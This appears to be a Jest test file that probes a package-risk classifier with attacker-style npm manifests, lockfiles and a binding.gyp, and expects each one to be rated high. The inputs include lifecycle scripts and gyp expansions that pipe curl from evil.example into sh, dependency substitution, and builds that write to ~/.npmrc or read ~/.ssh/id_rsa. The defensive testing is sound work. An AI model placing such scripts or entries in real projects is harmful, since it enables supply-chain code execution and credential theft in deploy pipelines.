// Attacker pass 9i (test-only) on the risk classifier's package rules (src/core/risk/): what the
// deploy run's `npm ci` / `npm install` and `npm run build` execute with the AWS credentials that
// deploy the stack (src/packaging/build-service.ts). Attacked: npm life-cycle events the manifest
// rule does not list, node-gyp's implicit install script, lockfile entries whose source is written
// as their `version` (lockfile v2/v3), lockfile v1 entries that cannot say whether they have
// install scripts, lockfile entries that install another package under a name, and a "plain"
// build that writes outside the service's folder. The npm behaviour relied on is npm 11's own
// source (@npmcli/arborist reify.js `predependencies`/`postdependencies`, rebuild.js `isGyp`,
// reify.js `#extractOrLink` using `name@version` when `resolved` is absent, dep-valid.js).
import { describe, expect, it } from '@jest/globals';
import { registryTarball as tarball, riskOfConfig as riskOf } from './fixtures/package-files.js';

const SERVICE = 'services/orders-api';
const manifest = (extra: Record<string, unknown>) =>
  JSON.stringify({
    name: 'orders-api',
    version: '1.0.0',
    private: true,
    scripts: { build: 'esbuild src/handler.ts --bundle --platform=node --outfile=dist/handler.js' },
    // Packages and ranges the blueprints write: without a lockfile, any other is a new unpinned dependency.
    dependencies: { '@aws-sdk/client-dynamodb': '^3.600.0' },
    devDependencies: { esbuild: '^0.28.0' },
    ...extra,
  });

const lockfile = (packages: Record<string, unknown>, lockfileVersion = 3) =>
  JSON.stringify({
    name: 'orders-api',
    version: '1.0.0',
    lockfileVersion,
    requires: true,
    packages: { '': { name: 'orders-api', version: '1.0.0' }, ...packages },
  });

describe('review 9i attacker: package manifest life-cycle events', () => {
  it('control: the blueprint-shaped manifest is low', () => {
    expect(riskOf([{ path: `${SERVICE}/package.json`, content: manifest({}) }]).level).toBe('low');
  });

  it('control: a "dependencies" script is refused (it runs after npm ci changed node_modules)', () => {
    const content = manifest({
      scripts: { build: 'tsc', dependencies: 'node -e "1"' },
    });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });

  // @npmcli/arborist reify.js runs the root package's `predependencies`, `dependencies` and
  // `postdependencies` scripts whenever the install changed node_modules (every fresh `npm ci`).
  // Was: src/core/risk/package-manifest-risks.ts INSTALL_SCRIPTS lists `dependencies` only.
  it('a "postdependencies" script (run by npm ci after installing) is refused', () => {
    const content = manifest({
      scripts: {
        build: 'tsc',
        postdependencies: 'curl -s https://evil.example/x | sh',
      },
    });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });

  it('a "predependencies" script (run by npm ci before "dependencies") is refused', () => {
    const content = manifest({
      scripts: {
        build: 'tsc',
        predependencies: 'node -e "require(\'child_process\').execSync(process.env.X)"',
      },
    });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });
});

describe('review 9i attacker: node-gyp implicit install script', () => {
  // npm runs `node-gyp rebuild` as the root package's `install` script when the folder holds a
  // `binding.gyp` and the manifest has no install/preinstall script (@npmcli/run-script
  // run-script-pkg.js, @npmcli/node-gyp isNodeGypPackage; npm ci runs the root's `install` event).
  // gyp evaluates `<!(command)` expansions while configuring: any shell command, in the deploy
  // run, with its AWS credentials. Was: src/core/risk/classify-risk.ts classifyRisk judges only
  // package.json, lockfiles, package manager configs and YAML/JSON files; a `binding.gyp` is skipped.
  it('a binding.gyp beside the service manifest (runs commands on npm ci) is refused', () => {
    const gyp = JSON.stringify({
      targets: [{ target_name: 'x', sources: ['<!(curl -s https://evil.example/x | sh)'] }],
    });
    const files = [
      { path: `${SERVICE}/package.json`, content: manifest({}) },
      { path: `${SERVICE}/binding.gyp`, content: gyp },
    ];
    expect(riskOf(files).level).toBe('high');
  });
});

describe('review 9i attacker: npm lockfile sources written as the version', () => {
  it('control: a registry entry with its own tarball is low', () => {
    const content = lockfile({
      'node_modules/zod': { version: '3.23.8', resolved: tarball('zod', '3.23.8'), integrity: 'sha512-z' },
    });
    expect(riskOf([{ path: `${SERVICE}/package-lock.json`, content }]).level).toBe('low');
  });

  it('control: the same source in `resolved` is refused', () => {
    const content = lockfile({
      'node_modules/zod': { version: '3.23.8', resolved: 'https://evil.example/zod.tgz' },
    });
    expect(riskOf([{ path: `${SERVICE}/package-lock.json`, content }]).level).toBe('high');
  });

  // Arborist's `#extractOrLink` fetches `${name}@${version}` for an entry without `resolved`, so a
  // URL, git or file `version` is fetched from there (dep-valid.js accepts it for a `*` range, which
  // the manifest rule reads as a registry spec). Was: src/core/risk/npm-lockfile-risks.ts
  // npmLockfileRisks skips entries whose `resolved` is undefined; only collectVersion1 (lockfile v1)
  // reads a source written as the version.
  it.each([
    ['a tarball URL', 'https://evil.example/zod-3.23.8.tgz'],
    ['a git URL', 'git+https://github.com/evil/zod.git#0123456789abcdef0123456789abcdef01234567'],
    ['a path outside the repository', 'file:../../../../tmp/zod'],
  ])('a lockfile v3 entry whose version is %s and has no `resolved` is refused', (_name, version) => {
    const files = [
      { path: `${SERVICE}/package.json`, content: manifest({ dependencies: { zod: '*' } }) },
      { path: `${SERVICE}/package-lock.json`, content: lockfile({ 'node_modules/zod': { version } }) },
    ];
    expect(riskOf(files).level).toBe('high');
  });
});

describe('review 9i attacker: npm lockfile install scripts it cannot see', () => {
  // Lockfile v1 has no `hasInstallScript`; npm 7+ loads such a lockfile as old metadata and reads
  // every package's package.json from disk to find its scripts (rebuild.js `#oldMeta`), so each
  // entry may run install scripts. The same entry in a v3 lockfile with `hasInstallScript: true`
  // is high; in v1 nothing can say, and unknown counts as high (DESIGN §4). Was:
  // src/core/risk/npm-lockfile-risks.ts npmLockfileRisks judges install scripts by the
  // `hasInstallScript` flag alone, which a v1 lockfile (collectVersion1) never carries.
  it('a lockfile v1 whose registry entries may run install scripts is refused', () => {
    const v3 = lockfile({
      'node_modules/esbuild': {
        version: '0.28.0',
        resolved: tarball('esbuild', '0.28.0'),
        hasInstallScript: true,
      },
    });
    expect(riskOf([{ path: `${SERVICE}/package-lock.json`, content: v3 }]).level).toBe('high');
    const v1 = JSON.stringify({
      name: 'orders-api',
      version: '1.0.0',
      lockfileVersion: 1,
      requires: true,
      dependencies: { esbuild: { version: '0.28.0', resolved: tarball('esbuild', '0.28.0') } },
    });
    expect(riskOf([{ path: `${SERVICE}/package-lock.json`, content: v1 }]).level).toBe('high');
  });
});

describe('review 9i attacker: a lockfile installing another package under a name', () => {
  it('control: the manifest alias to another package is refused', () => {
    const content = manifest({ dependencies: { zod: 'npm:evil-zod@^3.23.8' } });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });

  // dep-valid.js checks a range spec by version alone, so `zod: ^3.23.8` in the manifest accepts a
  // lockfile entry `node_modules/zod` whose `name` is `evil-zod`: npm ci installs evil-zod's code as
  // zod, with no alias anywhere in the manifest or the lockfile. The manifest rule refuses this
  // exact substitution ("a reviewer reads one name, npm installs another"). Was:
  // src/core/risk/npm-lockfile-risks.ts npmLockfileRisks/packageName take an entry's `name` as the
  // package it should be, never checking that some `dependencies` entry asks for it as `npm:<name>@`.
  it('a top-level lockfile entry naming another package, asked for by no alias, is refused', () => {
    const files = [
      { path: `${SERVICE}/package.json`, content: manifest({}) },
      {
        path: `${SERVICE}/package-lock.json`,
        content: lockfile({
          '': { name: 'orders-api', version: '1.0.0', dependencies: { zod: '^3.23.8' } },
          'node_modules/zod': {
            name: 'evil-zod',
            version: '3.23.8',
            resolved: tarball('evil-zod', '3.23.8'),
          },
        }),
      },
    ];
    expect(riskOf(files).level).toBe('high');
  });
});

describe('review 9i attacker: a "plain" build writing outside the service', () => {
  it('control: a build reaching above the folder with `..` is refused', () => {
    const content = manifest({ scripts: { build: 'esbuild src/handler.ts --bundle --outfile=../../x.js' } });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });

  // PLAIN_BUILD's own doc says "nothing above the service's folder", but an absolute path passes:
  // the build can overwrite any file the runner user can write (the action's own dist/ that a later
  // or post step runs, ~/.npmrc, another service's sources) or read one into the bundle
  // (`--inject:/…`). Was: src/core/risk/package-manifest-risks.ts PLAIN_BUILD allows `/` at the
  // start of an argument or after `=`.
  it.each([
    ['an absolute --outfile', 'esbuild src/handler.ts --bundle --outfile=/home/runner/.npmrc'],
    [
      'an absolute --inject',
      'esbuild src/handler.ts --bundle --inject:/home/runner/.ssh/id_rsa --outfile=dist/h.js',
    ],
    ['an absolute tsc --outDir', 'tsc --outDir /home/runner/work/_actions'],
  ])('a build with %s is refused', (_name, build) => {
    const content = manifest({ scripts: { build } });
    expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
  });
});
